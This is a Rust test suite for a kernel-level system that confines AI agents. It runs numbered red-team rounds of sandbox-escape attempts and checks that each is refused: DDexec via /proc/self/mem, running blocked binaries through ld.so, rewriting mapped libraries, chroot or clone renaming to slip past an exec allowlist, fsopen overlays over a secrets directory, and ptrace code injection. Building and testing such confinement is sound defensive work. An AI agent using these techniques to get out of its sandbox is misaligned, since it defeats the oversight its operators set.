        ("a file it owns, read-only", &owned),
        ("a root-owned file others may write", &open_to_all),
    ] {
        for mprotect in [false, true] {
            let ev = deny(
                &mut k,
                &fx,
                &format!(
                    "J1 a process that cannot write root's files maps {what} (mprotect: {mprotect})"
                ),
                &map_as(file, mprotect, Some(65534)),
                Kind::ExecMap,
                Control::Succeeds,
            );
            assert_eq!(ev.port, exec_map::WRITABLE);
        }
    }
    // A root agent maps a root-owned file with one name below a path its policy refuses it
    // writing (here the built-in protection of the installed software, `/usr`: how a root
    // agent maps the system's libraries), by mmap, where the path resolves; not by mprotect,
    // where it does not; nor once the file has a second name (written through that name, it
    // would keep the first's path).
    let system_dir = Path::new("/usr/lib/governance-test-j1");
    std::fs::create_dir_all(system_dir).unwrap();
    let system_lib = system_dir.join("lib.so");
    std::fs::copy(BUSYBOX, &system_lib).unwrap();
    std::fs::set_permissions(
        &system_lib,
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    runs(
        &mut k,
        "J1 a root agent maps a root-owned file below a path it may not write",
        &map_as(&system_lib, false, None),
    );
    let ev = deny(
        &mut k,
        &fx,
        "J1 a root agent mprotects to executable a root-owned file below a path it may not write (no path there)",
        &map_as(&system_lib, true, None),
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::WRITABLE);
    // (On the same filesystem, outside the paths the policy keeps from the agent.)
    let second_name = Path::new("/j1-second-name.so");
    std::fs::hard_link(&system_lib, second_name).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "J1 a root agent maps a root-owned file below a path it may not write, with a second name where it may",
        &map_as(&system_lib, false, None),
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::WRITABLE);
    std::fs::remove_file(second_name).unwrap();
    runs(
        &mut k,
        "J1 a root agent maps the same file with one name again",
        &map_as(&system_lib, false, None),
    );
    // Once a policy lets the agent write the system's files, its root processes map none.
    k.reload(&fx.policy(&format!("{extra}kernel: {{ allow_system_files: true }}\n")));
    let ev = deny(
        &mut k,
        &fx,
        "J1 a root agent maps a root-owned file below /usr once its policy lets it write there",
        &map_as(&system_lib, false, None),
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::WRITABLE);
    k.reload(&fx.policy(&extra));
    std::fs::remove_dir_all(system_dir).unwrap();
    // A filesystem mounted read-only is no reason (red team round 18): what a loop-mounted
    // image or a server holds changes when its backing file or another client writes it. A
    // root agent maps from it no more than from the same filesystem writable.
    let ro = mount_point(&fx, "read-only");
    mount_tmpfs(&ro);
    let ro_lib = ro.join("lib.so");
    std::fs::copy(BUSYBOX, &ro_lib).unwrap();
    let t = cstr(&ro);
    // SAFETY: valid C strings.
    let r = unsafe {
        libc::mount(
            c"none".as_ptr(),
            t.as_ptr(),
            std::ptr::null(),
            libc::MS_REMOUNT | libc::MS_RDONLY,
            std::ptr::null(),
        )
    };
    assert_eq!(r, 0, "remount {} read-only", ro.display());
    for mprotect in [false, true] {
        let ev = deny(
            &mut k,
            &fx,
            &format!(
                "R18 a root agent maps a file of a filesystem mounted read-only (mprotect: {mprotect})"
            ),
            &map_as(&ro_lib, mprotect, None),
            Kind::ExecMap,
            Control::Succeeds,
        );
        assert_eq!(ev.port, exec_map::WRITABLE);
    }
    unmount(&ro);
    // Owners and modes count only where the kernel checks them and nothing else writes the
    // files (red team round 18: a CIFS or FUSE server makes them up; NFS takes writes from other
    // clients). Here hugetlbfs stands in for those filesystems: a root-only file there is
    // refused even to a process that cannot write root's files.
    std::fs::write("/proc/sys/vm/nr_hugepages", "2").unwrap();
    let huge = mount_point(&fx, "huge");
    mount_fs(c"hugetlbfs", &huge);
    let huge_lib = huge.join("lib.so");
    std::fs::File::create(&huge_lib).unwrap();
    std::fs::set_permissions(
        &huge_lib,
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "R18 a process that cannot write root's files maps a root-only file of a filesystem whose owners are not the kernel's to check",
        &map_as(&huge_lib, false, Some(65534)),
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::WRITABLE);
    unmount(&huge);
    std::fs::write("/proc/sys/vm/nr_hugepages", "0").unwrap();
    // A write through a descriptor the agent did not open (red team round 18): a launcher
    // outside the agent opened the agent's log (root's, 0644) and the agent inherited it. The
    // write through it is remembered as an open for writing is, and so is a shared writable
    // mapping of it. Controls: the same writes by a process outside every agent leave the file
    // mappable by a process that cannot write root's files.
    for mapped in [false, true] {
        let log = fx.p(&format!("tmp/launcher-{mapped}.log"));
        let outside = fx.p(&format!("tmp/outside-{mapped}.log"));
        for f in [&log, &outside] {
            std::fs::write(f, vec![0u8; 4096]).unwrap();
            std::fs::set_permissions(f, std::os::unix::fs::PermissionsExt::from_mode(0o644))
                .unwrap();
        }
        let open = |f: &Path| {
            std::fs::OpenOptions::new()
                .read(true)
                .write(true)
                .open(f)
                .unwrap()
        };
        let (log_fd, outside_fd) = (open(&log), open(&outside));
        let write = |fd: &std::fs::File| Attempt::WriteFd {
            fd: std::os::fd::AsRawFd::as_raw_fd(fd),
            data: b"\x7fELF".to_vec(),
            mapped,
        };
        let (_, outcome) = run_in(Some(&fx.agent.path), "agent", &write(&log_fd));
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "the agent writes its inherited log"
        );
        let ev = deny(
            &mut k,
            &fx,
            &format!(
                "R18 a file the agent wrote through a descriptor it inherited, mapped by a process that cannot write root's files (shared mapping: {mapped})"
            ),
            &map_as(&log, false, Some(65534)),
            Kind::ExecMap,
            Control::Succeeds,
        );
        assert_eq!(ev.port, exec_map::WRITTEN);
        let (_, outcome) = run_in(Some(&fx.outsider.path), "outsider", &write(&outside_fd));
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "a process outside writes its log"
        );
        runs(
            &mut k,
            &format!(
                "R18 a file written outside every agent through a descriptor (shared mapping: {mapped})"
            ),
            &map_as(&outside, false, Some(65534)),
        );
    }
    // A file the agent wrote stays refused whoever owns it now (the table still decides).
    let copy = fx.p("tmp/copy");
    std::os::unix::fs::chown(&copy, Some(0), Some(0)).unwrap();
    std::fs::set_permissions(&copy, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "3 a copy an agent wrote, made root-only since, mapped by a process that cannot write root's files",
        &map_as(&copy, false, Some(65534)),
        Kind::ExecMap,
        Control::Succeeds,
    );
    assert_eq!(ev.port, exec_map::WRITTEN);
    // A file a process has mapped (a library an allowed program loaded with LD_PRELOAD, or one
    // a process outside runs) may not be written: its private mappings read the page cache the
    // write changes, so the process would run the agent's code (red team round 15). Mapped here
    // by the test, privately and executable, as ld.so maps a library.
    let map = |path: &Path, shared: bool| {
        let f = std::fs::OpenOptions::new()
            .read(true)
            .write(shared)
            .open(path)
            .unwrap();
        let (prot, flags) = if shared {
            (libc::PROT_READ | libc::PROT_WRITE, libc::MAP_SHARED)
        } else {
            (libc::PROT_READ | libc::PROT_EXEC, libc::MAP_PRIVATE)
        };
        // SAFETY: a new mapping of a file the test made, unmapped below.
        let p = unsafe {
            libc::mmap(
                std::ptr::null_mut(),
                4096,
                prot,
                flags,
                std::os::fd::AsRawFd::as_raw_fd(&f),
                0,
            )
        };
        assert_ne!(p, libc::MAP_FAILED, "mmap {}", path.display());
        p
    };
    let lib = fx.p("tmp/mapped.so");
    std::fs::copy(BUSYBOX, &lib).unwrap();
    let code = map(&lib, false);
    let ev = deny(
        &mut k,
        &fx,
        "R15 a library a process runs, written in place under an allowlist",
        &Attempt::open(&lib, libc::O_WRONLY),
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin));
    assert_eq!(ev.detail, governance_common::guard::MAPPED_CODE);
    // truncate(2) by name too (the same write permission).
    deny(
        &mut k,
        &fx,
        "R15 a library a process runs, truncated by name under an allowlist",
        &Attempt::Truncate { path: cstr(&lib) },
        Kind::Guard,
        Control::Succeeds,
    );
    std::fs::copy(BUSYBOX, &lib).unwrap();
    // Controls: data in a shared writable mapping (a database's, SQLite's `-shm`) is written;
    // the library, once nothing maps it, too.
    let shm = fx.p("tmp/db-shm");
    std::fs::write(&shm, vec![0u8; 4096]).unwrap();
    let data = map(&shm, true);
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&shm, libc::O_RDWR),
    );
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "a shared writable mapping's file"
    );
    // SAFETY: the mappings made above, each 4096 bytes.
    unsafe {
        libc::munmap(code, 4096);
        libc::munmap(data, 4096);
    }
    let (_, outcome) = run_in(
        Some(&fx.agent.path),
        "agent",
        &Attempt::open(&lib, libc::O_WRONLY),
    );
    assert_eq!(outcome, Outcome::Exited(0), "the library, mapped no more");
    // A process's own memory written through procfs (`/proc/self/mem` reaches read-only text):
    // a shell writes a loader into itself and runs any program (DDexec; red team round 16).
    // The kernel asks no security module when a process opens its own; the write permission
    // on the file is refused. Control: outside the agent, the same open succeeds.
    let ev = deny(
        &mut k,
        &fx,
        "R16 the process's own memory opened for writing (/proc/self/mem) under an allowlist",
        &Attempt::open(Path::new("/proc/self/mem"), libc::O_WRONLY),
        Kind::Guard,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::guard::PROC_MEM);
    // ld.so as the program: refused whatever the rules say of ld.so.
    let ld = loader();
    let ld_argv0 = ld.to_str().unwrap().to_owned();
    let ev = deny(
        &mut k,
        &fx,
        "3 ld.so runs a blocked binary (exec of the loader itself)",
        &Attempt::exec_args(
            &ld,
            &[
                &ld_argv0,
                fx.p("blocked/helper").to_str().unwrap(),
                "dlopen",
                "libm.so.6",
                "cos",
            ],
        ),
        Kind::Exec,
        Control::Succeeds,
    );
    assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin));
    assert_eq!(ev.detail, EXEC_DETAIL_LOADER);
}

/// Legitimate work keeps running in an agent under a confining policy: shell pipelines,
/// dynamically linked programs (ld.so maps libc) and dlopen, files written and read back,
/// a debugger on the agent's own process; under an exec allowlist that lists the binaries
/// and under a default-allow policy. None of it is refused.
#[test]
fn legitimate_work_keeps_running_in_an_agent() {
    require_root();
    let fx = Fixture::new("work");
    let curl = Path::new("/usr/bin/curl");
    assert!(curl.exists(), "curl is part of the VM image");
    let work = |k: &mut Loaded, policy: &str| {
        let script = format!(
            "test \"$(ls / | grep bin | wc -l)\" -ge 1 && echo note > {d}/tmp/note && grep -q note {d}/tmp/note && cat {d}/public.txt >/dev/null",
            d = fx.dir.display()
        );
        let cases: Vec<(&str, Attempt)> = vec![
            (
                "a shell pipeline",
                Attempt::exec_args(Path::new(BUSYBOX), &["sh", "-c", &script]),
            ),
            (
                "a dynamically linked program that dlopens a library",
                Attempt::exec_args(
                    Path::new(HELPER),
                    &["redteam-helper", "dlopen", "libm.so.6", "cos"],
                ),
            ),
            (
                "curl (a dynamically linked program with many libraries)",
                Attempt::exec_args(curl, &["curl", "--version"]),
            ),
            (
                "reading a file",
                Attempt::open(&fx.p("public.txt"), libc::O_RDONLY),
            ),
        ];
        for (case, attempt) in &cases {
            let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", attempt);
            assert_eq!(outcome, Outcome::Exited(0), "{policy}: {case}");
            assert!(
                k.try_event_where(Duration::from_millis(200), |e| e.tgid == pid
                    && e.flags & flags::DENIED != 0)
                    .is_none(),
                "{policy}: {case}: nothing refused"
            );
            println!("legitimate work runs in an agent, {policy}: {case}");
        }
        // A debugger on the agent's own process: under an exec allowlist it could write any
        // code into an allowed program (`PTRACE_POKETEXT`), so it is refused there, with an
        // event (red team round 16); with exec allowed by default it runs.
        let mut own = governance_tests::Reaped(
            governance_tests::command_in(Some(&fx.agent.path), BUSYBOX, &["sleep", "120"])
                .spawn()
                .unwrap(),
        );
        let pid = own.id() as i32;
        let (tracer, outcome) =
            run_in(Some(&fx.agent.path), "agent", &Attempt::PtraceSeize { pid });
        // Nor may a child ask its parent to trace it (`PTRACE_TRACEME`), which gives the
        // parent the same (here the parent is the test; in an attack, a process of the agent).
        let (tracee, asked) = run_in(Some(&fx.agent.path), "agent", &Attempt::PtraceTraceme);
        if policy == "exec allowlist" {
            assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{policy}: ptrace");
            let ev = k.event_where(|e| e.tgid == tracer && e.flags & flags::DENIED != 0);
            assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Ptrace), "{policy}");
            assert_eq!(ev.object, pid as u64, "{policy}");
            assert_eq!(
                asked,
                Outcome::Errno(libc::EPERM),
                "{policy}: PTRACE_TRACEME"
            );
            let ev = k.event_where(|e| e.tgid == tracee && e.flags & flags::DENIED != 0);
            assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Ptrace), "{policy}");
            assert_eq!(
                ev.object,
                u64::from(std::process::id()),
                "{policy}: the tracer"
            );
        } else {
            assert_eq!(
                outcome,
                Outcome::Exited(0),
                "{policy}: ptrace of a process of the agent itself"
            );
            assert_eq!(asked, Outcome::Exited(0), "{policy}: PTRACE_TRACEME");
        }
        let _ = own.kill();
    };
    {
        let mut k = fx.load(&format!(
            "\x20 - {{ id: curl, exec: {{ path: {} }}, verdict: allow, reason: a tool }}\n",
            curl.display()
        ));
        work(&mut k, "exec allowlist");
    }
    {
        let mut k = install(&format!(
            "name: open\nagents: {{ cgroup: {} }}\n",
            fx.agent.rel.display()
        ));
        work(&mut k, "default allow");
    }
}

/// Red team round 27: paths are read from the task's root, within the file's mount, so a task
/// that picks its root (`chroot`, which a user namespace's capabilities allow with no mount) or
/// reaches a file through a mount outside its namespace (a detached `open_tree` clone) names
/// files as it likes: a program the agent wrote ran under an exec allowlist as
/// `<allowed prefix>/renamed`. Such a name may refuse but never allows past the default. The
/// control outside runs the same program the same way.
#[test]
fn names_of_the_agent_s_choosing_allow_nothing() {
    require_root();
    let fx = Fixture::new("renamed");
    let mut k = fx.load("kernel: { allow_user_namespaces: true }\n");
    let path = fx.p("allowed/renamed");
    for how in ["chroot", "clone"] {
        for (who, cgroup) in [("agent", &fx.agent.path), ("outside", &fx.outsider.path)] {
            let root = fx.p(&format!("tmp/{how}-{who}"));
            let attempt = Attempt::exec_args(
                Path::new(HELPER),
                &[
                    "redteam-helper",
                    "renamed-exec",
                    how,
                    root.to_str().unwrap(),
                    path.to_str().unwrap(),
                ],
            );
            let case = format!("R27 a program the agent wrote, run by a name it chose ({how})");
            println!("redteam: tried {case} ({who})");
            let (pid, outcome) = run_in(Some(cgroup), "renamed", &attempt);
            if who == "agent" {
                assert_eq!(outcome, Outcome::Errno(libc::EPERM), "{case}");
                let ev = k.event_where(|e| {
                    e.tgid == pid
                        && Kind::from_u8(e.kind) == Some(Kind::Exec)
                        && e.flags & flags::DENIED != 0
                });
                // (The event names the program as the exec did: through the clone's
                // descriptor, `/dev/fd/N/…`.)
                assert!(
                    text(&ev.path).ends_with(path.to_str().unwrap()),
                    "{case}: the name it chose: {}",
                    text(&ev.path)
                );
                println!("redteam: denied {case}");
            } else {
                assert_eq!(outcome, Outcome::Exited(0), "{case}: control");
                println!("redteam: control {case}");
            }
        }
    }
    // The allowlist itself still reads names in view: the allowed prefix's program runs.
    allow(
        &mut k,
        &fx,
        "an allowed program by its path",
        &Attempt::exec(&fx.p("allowed/true"), "true"),
    );
    // A filesystem of its own, made with fsopen and used detached (no move_mount): an overlay
    // over the protected directory shows its files under the overlay's names (round 28).
    std::fs::create_dir_all(fx.p("secrets")).unwrap();
    std::fs::write(fx.p("secrets/key.txt"), "secret\n").unwrap();
    std::fs::create_dir_all(fx.p("ovl-empty")).unwrap();
    let ev = deny(
        &mut k,
        &fx,
        "R28 an overlay over a protected directory, made with fsopen and used detached",
        &Attempt::FsopenOverlay {
            lower: std::ffi::CString::new(format!(
                "{}:{}",
                fx.p("secrets").display(),
                fx.p("ovl-empty").display()
            ))
            .unwrap(),
            file: c"key.txt".into(),
        },
        Kind::Mount,
        Control::Succeeds,
    );
    assert_eq!(ev.detail, governance_common::mount_op::NEW_FILESYSTEM);
    drop(k);
    // And in a root moved onto `/` in a mount namespace of its own, twice (what systemd before
    // 254 does for a service with one; round 27b): in view, so the allowed program runs.
    let mut k = fx.load(
        "kernel: { allow_user_namespaces: true, allow_mounts: true, allow_capabilities: [CAP_SYS_ADMIN, CAP_SYS_CHROOT] }\n",
    );
    let root = fx.p("stacked");
    let attempt = Attempt::exec_args(
        Path::new(HELPER),
        &[
            "redteam-helper",
            "stacked-exec",
            root.to_str().unwrap(),
            fx.p("allowed/true").to_str().unwrap(),
        ],
    );
    let (pid, outcome) = run_in(Some(&fx.agent.path), "stacked", &attempt);
    assert_eq!(
        outcome,
        Outcome::Exited(0),
        "a root moved onto / runs what the allowlist allows"
    );
    assert!(
        k.try_event_where(Duration::from_millis(200), |e| e.tgid == pid
            && e.flags & flags::DENIED != 0)
            .is_none(),
        "a root moved onto /: nothing refused"
    );
}

/// A policy gives back what the built-ins refuse: a capability (`allow_capabilities`), mounts
/// (`allow_mounts`), running the loader (`allow_loader_exec`). What it does not give back stays
/// refused, now by the precise hooks.
#[test]
fn policy_relaxes_root_facility_protections() {
    use governance_common::{caps, mount_op};
    require_root();
    let fx = Fixture::new("relax-root");
    let (a, b, c) = (
        mount_point(&fx, "mnt-a"),
        mount_point(&fx, "mnt-b"),
        mount_point(&fx, "mnt-c"),
    );
    // CAP_SYS_ADMIN and CAP_SYS_CHROOT given back, mounts not.
    {
        let mut k =
            fx.load("kernel: { allow_capabilities: [CAP_SYS_ADMIN, CAP_SYS_CHROOT, CAP_BPF] }\n");
        // With CAP_BPF given back, the bpf hook still refuses bpf() (the pins).
        let pin = cstr(&k.pins.join("maps/STATE"));
        deny(
            &mut k,
            &fx,
            "19 bpf(BPF_OBJ_GET) on a pin with CAP_BPF given back",
            &Attempt::BpfObjGet { path: pin },
            Kind::Bpf,
            Control::Succeeds,
        );
        for (case, attempt) in [
            ("sethostname", Attempt::Sethostname { name: hostname() }),
            (
                "chroot",
                Attempt::Chroot {
                    path: cstr(&fx.dir),
                },
            ),
            (
                "unshare(CLONE_NEWNS)",
                Attempt::Unshare {
                    flags: libc::CLONE_NEWNS,
                },
            ),
            (
                "clone3 with a new network namespace",
                Attempt::Clone3 {
                    flags: libc::CLONE_NEWNET as u64,
                    cgroup: None,
                },
            ),
        ] {
            let ev = allow(&mut k, &fx, case, &attempt);
            assert_eq!(Cause::from_u8(ev.cause), Some(Cause::Builtin), "{case}");
        }
        // Mounting still refused: by the mount hooks now, each with its own event.
        mount_tmpfs(&c);
        for (case, attempt, op) in [
            (
                "12 umount with CAP_SYS_ADMIN, mounts not allowed",
                Attempt::Umount { target: cstr(&c) },
                mount_op::UMOUNT,
            ),
            (
                "12 pivot_root with CAP_SYS_ADMIN, mounts not allowed",
                Attempt::PivotRoot {
                    new_root: cstr(&a),
                    put_old: c"/".into(),
                },
                mount_op::PIVOT_ROOT,
            ),
            (
                "12 move_mount with CAP_SYS_ADMIN, mounts not allowed",
                Attempt::OpenTreeMove {
                    from: cstr(&fx.p("allowed")),
                    to: cstr(&b),
                },
                mount_op::MOVE_MOUNT,
            ),
        ] {
            let control = if op == mount_op::PIVOT_ROOT {
                Control::NotEperm
            } else {
                Control::Succeeds
            };
            let ev = deny(&mut k, &fx, case, &attempt, Kind::Mount, control);
            assert_eq!(ev.detail, op, "{case}");
        }
        unmount(&b);
        unmount(&c);
        // What is not given back stays refused.
        deny_cap(
            &mut k,
            &fx,
            "12 CAP_SYS_MODULE is not given back by a list without it",
            &Attempt::InitModule,
            caps::SYS_MODULE,
            Control::NotEperm,
        );
    }
    // Mounts allowed where the agent holds CAP_SYS_ADMIN.
    {
        let mut k =
            fx.load("kernel: { allow_capabilities: [CAP_SYS_ADMIN], allow_mounts: true }\n");
        let tmpfs = Attempt::Mount {
            source: c"none".into(),
            target: cstr(&a),
            fstype: c"tmpfs".into(),
            flags: 0,
        };
        let ev = allow(&mut k, &fx, "mount with allow_mounts", &tmpfs);
        assert_eq!(Kind::from_u8(ev.kind), Some(Kind::Mount));
        allow(
            &mut k,
            &fx,
            "umount with allow_mounts",
            &Attempt::Umount { target: cstr(&a) },
        );
    }
    // Inside a user namespace the policy allows, the agent holds CAP_SYS_ADMIN over its own
    // namespaces: mounting there needs allow_mounts as well.
    let in_userns = Attempt::UnshareMount {
        flags: libc::CLONE_NEWUSER | libc::CLONE_NEWNS,
        map_root: true,
        target: cstr(&a),
    };
    {
        let mut k = fx.load("kernel: { allow_user_namespaces: true }\n");
        let ev = deny(
            &mut k,
            &fx,
            "12 mount inside its own user namespace, mounts not allowed",
            &in_userns,
            Kind::Mount,
            Control::Succeeds,
        );
        assert_eq!(ev.detail, mount_op::MOUNT);
        // CAP_NET_ADMIN stays refused in user namespaces (one the agent did not make owns a
        // network with a way out; round 28), by ioctl as by netlink.
        deny_cap(
            &mut k,
            &fx,
            "R28 CAP_NET_ADMIN in a user namespace (an interface brought up by ioctl)",
            &Attempt::UsernsLoopbackUp,
            caps::NET_ADMIN,
            Control::Succeeds,
        );
        // Other capabilities in its user namespace are still its own: a chroot there.
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::RenamedOpen {
                clone: false,
                root: cstr(&fx.dir),
                path: c"/".into(),
                flags: libc::O_RDONLY | libc::O_DIRECTORY,
            },
        );
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "CAP_SYS_CHROOT in its own user namespace"
        );
    }
    {
        let mut k = fx.load(
            "kernel: { allow_user_namespaces: true, allow_mounts: true, allow_kernel_settings: true }\n",
        );
        let (pid, outcome) = run_in(Some(&fx.agent.path), "agent", &in_userns);
        assert_eq!(
            outcome,
            Outcome::Exited(0),
            "mount in its own user namespace"
        );
        assert!(
            k.try_event_where(Duration::from_millis(200), |e| e.tgid == pid
                && e.flags & flags::DENIED != 0)
                .is_none()
        );
        let setting = Path::new("/proc/sys/kernel/core_pattern");
        let value = std::fs::read_to_string(setting).unwrap();
        allow(
            &mut k,
            &fx,
            "kernel.core_pattern with allow_kernel_settings",
            &Attempt::write(setting, &value),
        );
        allow(
            &mut k,
            &fx,
            "/proc/irq/default_smp_affinity opened to write with allow_kernel_settings",
            &Attempt::open(Path::new("/proc/irq/default_smp_affinity"), libc::O_WRONLY),
        );
    }
    // The loader as a program: allowed, and then the mapping rules decide what it loads.
    {
        let ld = loader();
        let mut k = fx.load(&format!(
            "\x20 - {{ id: loader, exec: {{ path: {} }}, verdict: allow, reason: the loader }}\nkernel: {{ allow_loader_exec: true }}\n",
            ld.display()
        ));
        let argv0 = ld.to_str().unwrap().to_owned();
        let (_, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::exec_args(&ld, &[&argv0, HELPER, "dlopen", "libm.so.6", "cos"]),
        );
        assert_eq!(outcome, Outcome::Exited(0), "ld.so runs an allowed program");
        println!("redteam: tried 3 ld.so (allowed) maps a blocked binary");
        let blocked = fx.p("blocked/true");
        let (pid, outcome) = run_in(
            Some(&fx.agent.path),
            "agent",
            &Attempt::exec_args(&ld, &[&argv0, blocked.to_str().unwrap(), "true"]),
        );
        assert_ne!(
            outcome,
            Outcome::Exited(0),
            "ld.so cannot map the blocked binary"
        );
        let ev = k.event_where(|e| e.tgid == pid && e.flags & flags::DENIED != 0);
        assert_eq!(Kind::from_u8(ev.kind), Some(Kind::ExecMap));
        assert_eq!(ev.rule_id, k.rule(4));
        println!("redteam: denied 3 ld.so (allowed) maps a blocked binary");
        let (_, outcome) = run_in(
            Some(&fx.outsider.path),
            "outsider",
            &Attempt::exec_args(&ld, &[&argv0, blocked.to_str().unwrap(), "true"]),
        );
        assert_eq!(outcome, Outcome::Exited(0), "control");
        println!("redteam: control 3 ld.so (allowed) maps a blocked binary");
    }
}

/// A minimal wheel (PEP 427) of one pure-Python module, written with zipfile: the file named by
/// argv[1].
const MAKE_WHEEL: &str = r#"
import base64, hashlib, os, sys, zipfile
info = "greeting-1.0.dist-info"
files = {
    "greeting.py": 'def hello():\n    return "hello from a wheel"\n',
    info + "/METADATA": "Metadata-Version: 2.1\nName: greeting\nVersion: 1.0\nSummary: A wheel the test builds\n",
    info + "/WHEEL": "Wheel-Version: 1.0\nGenerator: governance-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
}
record = []
for path, text in files.items():
    data = text.encode()
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    record.append(f"{path},sha256={digest},{len(data)}")
record.append(info + "/RECORD,,")
files[info + "/RECORD"] = "\n".join(record) + "\n"
os.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True)
with zipfile.ZipFile(sys.argv[1], "w") as whl:
    for path, text in files.items():
        whl.writestr(path, text)
print("built", sys.argv[1])
"#;

/// A Python toolchain at work: C extension modules (json, sqlite3, ssl, hashlib), a subprocess,
/// a multiprocessing pool, an asyncio loop (its self-pipe is a Unix socket pair), a Unix socket
/// in the workspace, a loopback TCP round trip and a temporary file.
const PYTHON_WORK: &str = r#"
import json, sqlite3, ssl, hashlib, subprocess, multiprocessing, asyncio, os, socket, tempfile

def square(x):
    return x * x

if __name__ == "__main__":
    db = sqlite3.connect("work.db")
    db.execute("create table kv (k text primary key, v text)")
    db.execute("insert into kv values (?, ?)", ("answer", json.dumps({"n": 42})))
    db.commit()
    (v,) = db.execute("select v from kv where k = 'answer'").fetchone()
    db.close()
    print("sqlite+json:", json.loads(v)["n"])
    print("sha256:", hashlib.sha256(b"governance").hexdigest()[:16])
    ssl.create_default_context()
    print("ssl:", ssl.OPENSSL_VERSION.split()[0])
    child = subprocess.run(["sh", "-c", "echo from a child"], capture_output=True, text=True, check=True)
    print("subprocess:", child.stdout.strip())
    with multiprocessing.Pool(2) as pool:
        print("pool:", sum(pool.map(square, range(10))))
    server = socket.create_server(("127.0.0.1", 0))
    with socket.create_connection(server.getsockname()) as client:
        conn, _ = server.accept()
        client.sendall(b"ping")
        print("loopback:", conn.recv(4).decode())
        conn.close()
    server.close()
    async def three():
        await asyncio.sleep(0)
        return 3
    print("asyncio:", asyncio.run(three()))
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("ipc.sock")
        listener.listen()
        with socket.socket(socket.AF_UNIX) as client:
            client.connect("ipc.sock")
            conn, _ = listener.accept()
            client.sendall(b"ping")
            print("unix socket:", conn.recv(4).decode())
            conn.close()
    os.unlink("ipc.sock")
    with tempfile.NamedTemporaryFile("w+") as f:
        f.write("scratch")
        f.flush()
        f.seek(0)
        print("tempfile:", f.name.startswith("/tmp/"), f.read())
"#;

/// A shell at work: redirections (`>` opens with O_TRUNC, `>>` appends), a rename, a hard and
/// a symbolic link inside the workspace, a temp file in /tmp, output thrown into /dev/null.
const SHELL_WORK: &str = r#"set -eu
echo one > notes.txt
echo two >> notes.txt
echo "appended: $(cat notes.txt | tr '\n' ' ')"
echo three > notes.txt
echo "truncated: $(cat notes.txt)"
mkdir -p docs
mv notes.txt docs/notes.txt
ln docs/notes.txt docs/hardlink.txt
ln -s notes.txt docs/symlink.txt
echo "links: $(cat docs/hardlink.txt) $(cat docs/symlink.txt) $(stat -c %h docs/notes.txt)"
t=$(mktemp)
echo scratch > "$t"
echo "tmp: $(dirname "$t") $(cat "$t")"
rm "$t"
echo discarded > /dev/null
printf 'venv/\ndist/\n*.db\n' > .gitignore
echo done
"#;

/// Issue 12: mediation is not bought by breaking agents. Under a policy that confines exec
/// (allow-list, default block), file writes (the agent's workspace and /tmp), secrets and the
/// network (loopback only), an agent does ordinary developer work with real tools, and every
/// step works without a single refusal: Python (C extension modules, a subprocess, a
/// multiprocessing pool, a venv, an offline `pip install` of a wheel it builds, importing it
/// from the venv's interpreter, which is a symlink to the allowed python3), git (init, add,
/// commit, log), and a shell (a pipeline, redirections, mv, ln, a temp file). In the same run the
/// policy still bites: a secret, a connect off loopback, an exec off the allow-list and a write
/// outside the workspace are refused.
#[test]
fn legitimate_work_keeps_running() {
    use governance_common::Counter;

    /// What the test made outside its fixture, removed when it ends.
    struct Cleanup(Vec<PathBuf>);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            for p in &self.0 {
                let _ = std::fs::remove_dir_all(p).or_else(|_| std::fs::remove_file(p));
            }
        }
    }

    require_root();
    let fx = Fixture::new("legit");
    // The agent's workspace (and home), outside /tmp: its own rule is what lets it write there.
    let ws = PathBuf::from(format!("/home/agent-{}", std::process::id()));
    // A file of root's outside the workspace (made by the test: Attempt::Write does not create).
    let system_file = PathBuf::from(format!("/root/legit-{}.conf", std::process::id()));
    let _cleanup = Cleanup(vec![ws.clone(), system_file.clone()]);
    let project = ws.join("project");
    let secrets = ws.join("secrets");
    let _ = std::fs::remove_dir_all(&ws);
    std::fs::create_dir_all(&project).unwrap();
    std::fs::create_dir_all(&secrets).unwrap();
    std::fs::write(secrets.join("api-key"), "sk-not-for-agents").unwrap();
    // A binary the agent dropped in its workspace (a copy of busybox: `true` by its argv[0]).
    std::fs::create_dir_all(ws.join("bin")).unwrap();
    std::fs::copy(BUSYBOX, ws.join("bin/true")).unwrap();
    std::fs::write(&system_file, "setting=1\n").unwrap();

    let (w, s) = (ws.display(), secrets.display());
    let policy = format!(
        "name: developer\n\
         agents: {{ cgroup: {agent} }}\n\
         defaults: {{ exec: block, network: block }}\n\
         rules:\n\
         \x20 - {{ id: python, exec: {{ path: /usr/bin/python3 }}, verdict: allow, reason: the project's scripts and packaging }}\n\
         \x20 - {{ id: git, exec: {{ path: /usr/bin/git }}, verdict: allow, reason: version control }}\n\
         \x20 - {{ id: shell, exec: {{ path: {BUSYBOX} }}, verdict: allow, reason: sh and the coreutils }}\n\
